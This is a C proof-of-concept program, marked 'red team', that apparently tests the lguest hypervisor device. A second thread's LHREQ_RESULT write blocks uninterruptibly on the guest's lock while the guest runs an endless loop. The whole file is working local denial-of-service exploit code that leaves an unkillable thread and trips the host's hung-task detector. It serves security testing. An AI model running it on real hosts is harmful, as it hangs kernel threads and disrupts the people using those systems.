/*
 * lgstall (red team): a second thread of the Launcher blocks in the Host, uninterruptibly, for as
 * long as the Guest runs.  The main thread sets up a tiny Guest (one page of code, `jmp .`) and
 * runs it with read(); a second thread then sends LHREQ_RESULT, which takes the Guest's lock
 * with mutex_lock() (not _interruptible) while the main thread holds it for the whole run.  The
 * second thread sits in state D: the Host's hung-task detector reports it, and not even SIGKILL
 * to that thread alone can free it.
 *
 * Usage: lgstall SECONDS   (the main thread stops after SECONDS, by SIGALRM)
 */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "lguest.h"

#define PAGES 16

static int fd;

static void *answer(void *unused)
{
	struct lguest_result res = { .request = LHREQ_RESULT, .value = 0 };
	ssize_t n;

	(void)unused;
	sleep(1);
	printf("lgstall: second thread sends LHREQ_RESULT\n");
	fflush(stdout);
	n = write(fd, &res, sizeof(res));
	printf("lgstall: LHREQ_RESULT returned %d\n", (int)n);
	fflush(stdout);
	return NULL;
}

static void on_alarm(int sig)
{
	(void)sig;
}

int main(int argc, char *argv[])
{
	struct lguest_event event;
	unsigned char *mem;
	uint32_t *pgdir, *pt;
	pthread_t t;
	ssize_t n;
	struct lguest_init_request req = { .request = LHREQ_INITIALIZE };
	int secs = argc > 1 ? atoi(argv[1]) : 15;

	fd = open("/dev/lguest", O_RDWR);
	mem = mmap(NULL, PAGES * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (fd < 0 || mem == MAP_FAILED) {
		perror("lgstall: /dev/lguest or memory");
		return 1;
	}
	pgdir = (uint32_t *)mem;
	pt = (uint32_t *)(mem + 0x1000);
	pgdir[0xC0000000u >> 22] = 0x1000 | 3;
	pt[2] = 0x2000 | 3;	/* supervisor: SMEP forbids ring 1 to run a user page */
	mem[0x2000] = 0xEB;	/* jmp . */
	mem[0x2001] = 0xFE;
	req.mem_base = (uint32_t)(unsigned long)mem;
	req.mem_pages = PAGES;
	req.pgdir = 0;
	req.entry = 0xC0002000;
	if (write(fd, &req, sizeof(req)) != sizeof(req)) {
		perror("lgstall: LHREQ_INITIALIZE");
		return 1;
	}
	signal(SIGALRM, on_alarm);
	pthread_create(&t, NULL, answer, NULL);
	alarm(secs);
	n = read(fd, &event, sizeof(event));
	printf("lgstall: read returned %d (%s) after the alarm\n", (int)n,
	       n < 0 ? strerror(errno) : "event");
	fflush(stdout);
	pthread_join(t, NULL);
	return 0;
}
